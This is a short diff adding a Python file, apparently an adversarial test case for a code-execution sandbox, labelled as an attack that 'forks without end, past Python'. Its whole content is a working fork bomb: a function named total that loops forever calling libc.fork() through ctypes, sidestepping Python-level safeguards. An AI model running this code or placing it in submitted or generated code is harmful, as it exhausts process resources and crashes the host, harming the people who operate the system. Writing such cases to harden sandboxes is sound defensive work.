@@ -1,0 +1,8 @@
+# attack: forks without end, past Python
+# expects: any
+
+import ctypes
+libc = ctypes.CDLL(None, use_errno=True)
+def total(numbers, known):
+    while True:
+        libc.fork()
